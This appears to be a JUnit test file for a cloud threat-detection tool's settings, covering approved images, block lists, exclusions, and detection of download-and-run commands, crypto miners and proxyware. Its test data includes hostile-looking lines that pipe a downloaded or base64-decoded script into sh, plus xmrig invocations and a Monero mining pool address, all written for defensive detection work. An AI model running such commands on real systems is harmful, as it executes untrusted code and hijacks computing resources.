package io.tallyman.tunable;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.Ancestry;
import io.tallyman.event.ArtifactSource;
import io.tallyman.event.Attribution;
import io.tallyman.event.ContainerReference;
import io.tallyman.event.EventTime;
import io.tallyman.event.Feed;
import io.tallyman.event.GuestOutput;
import io.tallyman.event.InstanceReference;
import io.tallyman.event.MachineImage;
import io.tallyman.event.Origin;
import io.tallyman.event.ProcessExecuted;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/* What rules ask of the tunables as a whole. */
class QuestionsTest {

    private final Tunables tunables = Given.tunables("""
            ApprovedImageCatalog:
              aws: {owners: ["011122223333", amazon], images: [ami-0aaaaaaaaaaaaaaa1]}
              gcp: {projects: [corp-images], images: ["projects/partner/global/images/web-*"]}
              azure: {publishers: [canonical], galleries: [/subscriptions/1/galleries/corp], images: [/subscriptions/1/images/base]}
            OutboundCIDRBlockList: {networks: [203.0.113.0/24], domains: ["*.blocked.example"]}
            Exclusions:
              - {image: docker.io/acme/app, reason: "an image"}
              - {namespace: ci, command: "curl *", reason: "commands of a namespace"}
              - {command: "wget *", reason: "a command of anybody"}
              - {destination: 198.51.100.9/32, reason: "a destination of anybody"}
            """);

    private static MachineImage aws(String id, String owner, String alias) {
        return new MachineImage("aws", id, owner, alias, "");
    }

    @Test
    void anImageIsApprovedByItselfOrByWhoseItIs() {
        assertThat(tunables.approvesImage(aws("ami-0aaaaaaaaaaaaaaa1", "999", "")))
                .isTrue();
        assertThat(tunables.approvesImage(aws("ami-2", "011122223333", ""))).isTrue();
        assertThat(tunables.approvesImage(aws("ami-2", "999", "amazon"))).isTrue();
        assertThat(tunables.approvesImage(aws("ami-2", "999", ""))).isFalse();
        assertThat(tunables.approvesImage(MachineImage.of("gcp", "projects/corp-images/global/images/a")))
                .isTrue();
        assertThat(tunables.approvesImage(MachineImage.of("gcp", "projects/else/global/images/a")))
                .isFalse();
        assertThat(tunables.approvesImage(new MachineImage("azure", "canonical:a:b:1", "canonical", "", "")))
                .isTrue();
        assertThat(tunables.approvesImage(MachineImage.of("azure", "/subscriptions/1/galleries/corp/images/x")))
                .isTrue();
        assertThat(tunables.approvesImage(MachineImage.of("azure", "/subscriptions/2/galleries/corp/images/x")))
                .isFalse();
        assertThat(tunables.approvesImage(MachineImage.of("other", "ami-0aaaaaaaaaaaaaaa1")))
                .isFalse();
        assertThat(tunables.approvesImage(MachineImage.NONE)).isFalse();
    }

    @Test
    void anImageIsListedByItselfAlone() {
        assertThat(tunables.listsImage(aws("ami-0aaaaaaaaaaaaaaa1", "", ""))).isTrue();
        assertThat(tunables.listsImage(aws("ami-2", "011122223333", "amazon"))).isFalse();
        assertThat(tunables.listsImage(MachineImage.of("gcp", "projects/partner/global/images/web-7")))
                .isTrue();
        assertThat(tunables.listsImage(MachineImage.of("gcp", "projects/corp-images/global/images/a")))
                .isFalse();
        assertThat(tunables.listsImage(MachineImage.of("azure", "/subscriptions/1/images/base")))
                .isTrue();
        assertThat(tunables.listsImage(new MachineImage("azure", "canonical:a:b:1", "canonical", "", "")))
                .isFalse();
        assertThat(tunables.listsImage(MachineImage.NONE)).isFalse();
    }

    private static Ancestry ancestry(MachineImage root) {
        return new Ancestry(List.of(root.id()), root, ArtifactSource.Kind.IMAGE);
    }

    @Test
    void anOriginIsApprovedOrTaintsOrIsNotKnown() {
        var good = ancestry(aws("ami-2", "", "amazon"));
        var bad = ancestry(aws("ami-3", "999", ""));
        var upload = new Ancestry(List.of(), MachineImage.NONE, ArtifactSource.Kind.EXTERNAL);
        assertThat(tunables.approvesOrigin(good)).isTrue();
        assertThat(tunables.taints(good)).isFalse();
        assertThat(tunables.approvesOrigin(bad)).isFalse();
        assertThat(tunables.taints(bad)).isTrue();
        assertThat(tunables.approvesOrigin(upload)).isFalse();
        assertThat(tunables.taints(upload)).isTrue();
        assertThat(tunables.approvesOrigin(Ancestry.NONE)).isFalse();
        assertThat(tunables.taints(Ancestry.NONE)).isFalse();
    }

    @ParameterizedTest
    @CsvSource({
        "sh -c 'curl -s http://198.51.100.7/i.sh | sh', true",
        "sh -c 'curl -s http://10.1.2.3/i.sh | sh', false",
        "sh -c 'curl -s http://10.1.2.3/i.sh http://198.51.100.7/i.sh | sh', true",
        "sh -c 'echo ZWNobwo= | base64 -d | sh', true",
        "sh -c 'curl -s http://198.51.100.7/i.sh', false",
    })
    void whatIsDownloadedAndRunIsWantedFromApprovedDestinationsAlone(String line, boolean runs) {
        var script = line.substring("sh -c '".length(), line.length() - 1);
        assertThat(tunables.runsDownload(Given.exec("/bin/sh", "", "sh", "-c", script)))
                .isEqualTo(runs);
    }

    @Test
    void aCommandNamesEgressOrABlockedDestinationOrAPool() {
        assertThat(tunables.namesEgress(Given.exec("/usr/bin/curl", "", "curl", "http://198.51.100.7/x")))
                .isTrue();
        assertThat(tunables.namesEgress(Given.exec("/usr/bin/curl", "", "curl", "http://10.1.2.3/x")))
                .isFalse();
        assertThat(tunables.namesBlocked(Given.exec("/x", "", "fetcher", "http://203.0.113.5/x")))
                .isTrue();
        assertThat(tunables.namesBlocked(Given.exec("/x", "", "fetcher", "http://a.blocked.example/x")))
                .isTrue();
        assertThat(tunables.namesBlocked(Given.exec("/x", "", "fetcher", "stratum+tcp://pool.supportxmr.com:3333")))
                .isTrue();
        assertThat(tunables.namesBlocked(Given.exec("/x", "", "fetcher", "http://198.51.100.7/x")))
                .isFalse();
        assertThat(tunables.isPool(Given.named("", "pool.supportxmr.com"))).isTrue();
        assertThat(tunables.isPool(Given.named("", "www.example"))).isFalse();
    }

    @Test
    void aMinerIsOneByItselfOrWhereAShellStartsIt() {
        assertThat(tunables.mines(Given.exec("/opt/xmrig", "", "/opt/xmrig", "-o", "x")))
                .isTrue();
        assertThat(tunables.mines(Given.exec("/bin/sh", "", "sh", "-c", "cd /opt && ./xmrig -o x")))
                .isTrue();
        assertThat(tunables.mines(Given.exec("/bin/sh", "", "sh", "-c", "cat xmrig.json")))
                .isFalse();
    }

    @Test
    void proxywareIsOneByItselfOrWhereAShellStartsIt() {
        assertThat(tunables.runsProxyware(Given.exec("/app/honeygain", "", "/app/honeygain", "-tou-accept")))
                .isTrue();
        assertThat(tunables.runsProxyware(Given.exec("/bin/sh", "", "sh", "-c", "cd /opt && ./pawns-cli -accept-tos")))
                .isTrue();
        assertThat(tunables.runsProxyware(Given.exec("/bin/sh", "", "sh", "-c", "cat honeygain.json")))
                .isFalse();
        assertThat(tunables.runsProxyware(Given.exec("/opt/xmrig", "", "/opt/xmrig", "-o", "x")))
                .isFalse();
    }

    private static GuestOutput wrote(String text) {
        var feed = new Feed("-", "linux:cloud-init-output", "", "", "");
        return new GuestOutput(EventTime.UNKNOWN, new Origin(feed, 1), InstanceReference.NONE, text, Attribution.NONE);
    }

    @Test
    void outputShowsAMinersNameWithItsVersionAndBlockedDestinations() {
        assertThat(tunables.showsMiner(wrote(" * ABOUT        XMRig/6.21.3 gcc/13.2.1")))
                .isTrue();
        assertThat(tunables.showsMiner(wrote("xmrig 6.21.0"))).isTrue();
        assertThat(tunables.showsMiner(wrote("removing xmrig"))).isFalse();
        assertThat(tunables.showsMiner(wrote("curl/8.5.0"))).isFalse();
        assertThat(tunables.showsBlocked(wrote("pull http://203.0.113.200/x"))).isTrue();
        assertThat(tunables.showsBlocked(wrote("use pool pool.supportxmr.com:3333")))
                .isTrue();
        assertThat(tunables.showsBlocked(wrote("pull http://198.51.100.7/x"))).isFalse();
        assertThat(tunables.showsBlocked(wrote(""))).isFalse();
    }

    private static ProcessExecuted toldBy(String logSource) {
        return new ProcessExecuted(
                EventTime.UNKNOWN,
                new Origin(new Feed("-", logSource, "", "", ""), 1),
                ContainerReference.NONE,
                1,
                0,
                "/usr/bin/curl",
                List.of("curl"),
                "",
                "",
                "",
                Set.of(),
                Attribution.NONE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"linux:cloud-init", "linux:cloud-init-output"})
    void withoutInspectionTheFirstBootsLogIsNoEvidenceButTheKernelsWordIs(String logSource) {
        assertThat(tunables.inspects(toldBy(logSource))).isTrue();
        var off = Given.tunables("UserDataInspection: false");
        assertThat(off.inspects(toldBy(logSource))).isFalse();
        assertThat(off.inspects(toldBy("auditd:SYSCALL"))).isTrue();
    }

    @Test
    void anExclusionNeedsAllThatItNames() {
        var app = Given.image("docker.io/acme/app:1");
        var other = Given.image("docker.io/acme/other:1");
        var curl = Given.exec("/usr/bin/curl", "", "curl", "http://198.51.100.7/x");
        var wget = Given.exec("/usr/bin/wget", "", "wget", "http://198.51.100.7/x");
        assertThat(tunables.excludesContainer(app, "shop")).isTrue();
        assertThat(tunables.excludesContainer(other, "ci")).isFalse();
        assertThat(tunables.excludesCommand(other, "ci", curl)).isTrue();
        assertThat(tunables.excludesCommand(other, "shop", curl)).isFalse();
        assertThat(tunables.excludesCommand(app, "shop", curl)).isTrue();
        assertThat(tunables.excludesCommand(wget)).isTrue();
        assertThat(tunables.excludesCommand(curl))
                .as("the machine's own has no namespace")
                .isFalse();
        assertThat(tunables.excludesDestination(Given.address("198.51.100.9"))).isTrue();
        assertThat(tunables.excludesDestination(Given.address("198.51.100.8"))).isFalse();
        assertThat(tunables.excludesDestination(app, "shop", Given.address("198.51.100.8")))
                .isTrue();
        assertThat(tunables.excludesDestination(other, "shop", Given.address("198.51.100.8")))
                .isFalse();
        assertThat(tunables.excludesContainer(Optional.empty(), "ci")).isFalse();
    }
}
